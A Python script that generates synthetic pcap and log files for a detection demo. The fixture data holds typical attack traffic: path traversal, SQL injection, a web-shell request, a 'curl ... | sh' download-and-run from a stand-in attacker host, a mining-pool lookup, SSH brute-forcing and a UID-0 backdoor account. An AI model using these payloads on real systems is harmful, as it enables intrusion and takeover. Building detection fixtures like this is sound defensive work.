#!/usr/bin/env python3
"""Generates the demo's sample traffic and log (demo/sample.pcap, demo/auth.log,
demo/access.log). Everything here is synthetic: addresses are from documentation and
private ranges, payloads are typical attack traffic that the shipped rules detect.
Re-run to regenerate; the output is deterministic."""
import os
import struct
import sys

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "demo")
T0 = 1795435200  # 2026-11-23T12:00:00Z


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ip4(a: str) -> bytes:
    return bytes(int(x) for x in a.split("."))


def ipv4_packet(src, dst, proto, l4, ident):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), ident, 0x4000, 64, proto, 0, ip4(src), ip4(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + l4


def tcp_segment(src, dst, sport, dport, seq, ack, flags, payload=b""):
    off = 5 << 4
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off, flags, 64240, 0, 0)
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload)
    hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
    return hdr + payload


def udp_datagram(src, dst, sport, dport, payload):
    hdr = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 17, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload) or 0xFFFF
    return hdr[:6] + struct.pack("!H", c) + payload


def ether(payload):
    return b"\x02\x00\x00\x00\x00\x02" + b"\x02\x00\x00\x00\x00\x01" + b"\x08\x00" + payload


class Pcap:
    def __init__(self):
        self.frames = []
        self.t = T0
        self.ident = 1000

    def add(self, src, dst, proto, l4, dt=0.01):
        self.t += dt
        self.ident += 1
        self.frames.append((self.t, ether(ipv4_packet(src, dst, proto, l4, self.ident & 0xFFFF))))

    def tcp_session(self, cli, srv, sport, dport, request, response=b""):
        F, S, R, P, A = 1, 2, 4, 8, 16
        cseq, sseq = 1000, 5000
        self.add(cli, srv, 6, tcp_segment(cli, srv, sport, dport, cseq, 0, S))
        self.add(srv, cli, 6, tcp_segment(srv, cli, dport, sport, sseq, cseq + 1, S | A))
        self.add(cli, srv, 6, tcp_segment(cli, srv, sport, dport, cseq + 1, sseq + 1, A))
        self.add(cli, srv, 6, tcp_segment(cli, srv, sport, dport, cseq + 1, sseq + 1, P | A, request))
        cseq += 1 + len(request)
        self.add(srv, cli, 6, tcp_segment(srv, cli, dport, sport, sseq + 1, cseq, A))
        if response:
            self.add(srv, cli, 6, tcp_segment(srv, cli, dport, sport, sseq + 1, cseq, P | A, response))
            sseq += len(response)
        self.add(cli, srv, 6, tcp_segment(cli, srv, sport, dport, cseq, sseq + 1, F | A))
        self.add(srv, cli, 6, tcp_segment(srv, cli, dport, sport, sseq + 1, cseq + 1, F | A))
        self.add(cli, srv, 6, tcp_segment(cli, srv, sport, dport, cseq + 1, sseq + 2, A))

    def write(self, path):
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for t, fr in self.frames:
                sec = int(t)
                usec = int(round((t - sec) * 1e6))
                f.write(struct.pack("<IIII", sec, usec, len(fr), len(fr)) + fr)


def http_get(path, ua="Mozilla/5.0", host="dichvucong.example.gov.vn"):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n" % (path, host, ua)).encode()


def main():
    p = Pcap()
    web = "10.20.1.10"       # the agency's public-service portal (HOME_NET)
    attacker = "203.0.113.66"  # documentation range: the "internet"
    # 1. benign page view
    p.tcp_session("198.51.100.7", web, 40001, 80, http_get("/index.html"),
                  b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
    # 2. path traversal probing for /etc/passwd
    p.tcp_session(attacker, web, 40002, 80, http_get("/download.php?file=../../../../etc/passwd"),
                  b"HTTP/1.1 200 OK\r\nContent-Length: 32\r\n\r\nroot:x:0:0:root:/root:/bin/bash\n")
    # 3. SQL injection with sqlmap's user agent
    p.tcp_session(attacker, web, 40003, 80,
                  http_get("/tracuu?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
                           ua="sqlmap/1.7.2#stable (https://sqlmap.org)"),
                  b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n")
    # 4. web shell command execution answering with `id` output
    p.tcp_session(attacker, web, 40004, 80, http_get("/uploads/shell.php?cmd=id"),
                  b"HTTP/1.1 200 OK\r\nContent-Length: 39\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n")
    # 5. download-and-run from the portal to the attacker's server
    p.tcp_session(web, attacker, 40005, 8080, http_get("/x.sh", ua="Wget/1.21.3", host="203.0.113.66:8080"),
                  b"HTTP/1.1 200 OK\r\nContent-Length: 48\r\n\r\n#!/bin/sh\ncurl http://203.0.113.66/m | sh\n")
    # 6. DNS query for a cryptomining pool
    dns = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in "pool.minexmr.com".split("."):
        dns += bytes([len(label)]) + label.encode()
    dns += b"\x00" + struct.pack("!HH", 1, 1)
    p.add(web, "10.20.0.2", 17, udp_datagram(web, "10.20.0.2", 53000, 53, dns))
    # 7. an EICAR test file fetched by a workstation
    p.tcp_session("10.20.5.31", attacker, 40006, 80, http_get("/eicar.com", host="203.0.113.66"),
                  b"HTTP/1.1 200 OK\r\nContent-Length: 68\r\n\r\n"
                  b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
    os.makedirs(OUT, exist_ok=True)
    p.write(os.path.join(OUT, "sample.pcap"))

    # auth.log: an SSH brute force, a password spray, a sudo failure, a normal login.
    lines = []
    t = 12 * 3600
    def ts(sec):
        h, m, s = sec // 3600, (sec // 60) % 60, sec % 60
        return "Nov 23 %02d:%02d:%02d" % (h, m, s)
    pid = 2100
    lines.append("%s portal01 sshd[%d]: Accepted publickey for deploy from 10.20.0.5 port 50122 ssh2: RSA SHA256:abc" % (ts(t), pid))
    for i in range(12):
        t += 2
        pid += 1
        lines.append("%s portal01 sshd[%d]: Failed password for root from 203.0.113.66 port %d ssh2" % (ts(t), pid, 51000 + i))
    for i, user in enumerate(["admin", "oracle", "test", "postgres", "ubuntu", "guest", "support", "ftpuser"]):
        t += 1
        pid += 1
        lines.append("%s portal01 sshd[%d]: Invalid user %s from 198.51.100.23 port %d" % (ts(t), pid, user, 52000 + i))
        lines.append("%s portal01 sshd[%d]: Failed password for invalid user %s from 198.51.100.23 port %d ssh2" % (ts(t), pid, user, 52000 + i))
    t += 30
    for _ in range(3):
        t += 5
        lines.append("%s portal01 sudo: pam_unix(sudo:auth): authentication failure; logname=nguyenvan uid=1001 euid=0 tty=/dev/pts/0 ruser=nguyenvan rhost=  user=nguyenvan" % ts(t))
    lines.append("%s portal01 sudo:   nguyenvan : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/nguyenvan ; USER=root ; COMMAND=/bin/bash" % ts(t))
    t += 10
    lines.append("%s portal01 sudo:    khach : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/khach ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow" % ts(t))
    t += 5
    lines.append("%s portal01 useradd[3001]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash" % ts(t))
    with open(os.path.join(OUT, "auth.log"), "w") as f:
        f.write("\n".join(lines) + "\n")

    # access.log: a burst of 404s from a scanner, plus normal traffic.
    acc = []
    base = "23/Nov/2026:12:10:%02d +0000"
    acc.append('198.51.100.7 - - [%s] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"' % (base % 0))
    probes = ["/admin/", "/wp-login.php", "/.env", "/phpmyadmin/", "/backup.zip", "/.git/config",
                              "/config.php.bak", "/server-status", "/cgi-bin/test.cgi", "/shell.php", "/db.sql",
                              "/administrator/", "/old/", "/test.php", "/info.php", "/upload/", "/.DS_Store",
                              "/console", "/actuator/env", "/api/v1/debug", "/manager/html", "/solr/"]
    probes += [p + "backup/" for p in probes[:14]]  # 36 probes, all within 18 seconds
    for i, path in enumerate(probes):
        acc.append('203.0.113.66 - - [%s] "GET %s HTTP/1.1" 404 196 "-" "Mozilla/5.0 (compatible; Nikto/2.5.0)"' % (base % (1 + i // 2), path))
    acc.append('203.0.113.66 - - [%s] "GET /download.php?file=../../../../etc/passwd HTTP/1.1" 200 1024 "-" "curl/8.4.0"' % (base % 30))
    with open(os.path.join(OUT, "access.log"), "w") as f:
        f.write("\n".join(acc) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
